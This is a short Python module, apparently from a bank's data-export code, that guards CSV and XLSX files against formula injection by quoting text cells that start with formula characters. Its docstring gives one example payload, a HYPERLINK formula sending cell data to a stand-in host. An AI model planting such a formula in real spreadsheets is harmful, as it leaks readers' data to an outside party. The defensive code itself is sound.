"""The one rule for text cells in every spreadsheet file the bank writes (CSV and XLSX).

CSV/formula injection (OWASP, "CSV Injection"): a spreadsheet program treats a cell that starts
with ``=``, ``+``, ``-`` or ``@`` as a formula, and a leading tab or carriage return can hide such
a start. A title like ``=HYPERLINK("http://evil.example/?leak="&A2,"Open")`` would then run in the
reader's spreadsheet and could send other cells away. Following OWASP, such a text cell gets a
single quote (``'``) in front, which makes every spreadsheet program show it as plain text; the
quote is visible, the rest of the text is unchanged. Numbers and dates written as typed values
(integers, datetimes in XLSX) are never touched.

The same rule and its wording are published in the open data's ``datapackage.json``.
"""

# OWASP's list; the fullwidth forms (＝＋－＠) are read as formulas by some spreadsheet programs too.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

NEUTRALISATION_RULE = (
    "A text cell that starts with =, +, -, @, a tab or a carriage return (or the fullwidth ＝ ＋ － ＠) "
    "is prefixed with a single quote (') so that spreadsheet programs show it as text and never run it "
    "as a formula (OWASP CSV-injection guidance). Remove that one leading quote to get the original text; "
    "the JSON files hold every text unchanged."
)


def neutralise_cell(value):
    """``value`` as it may be written into a spreadsheet cell: text that a spreadsheet would take
    for a formula gets a leading single quote; anything that is not text is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value
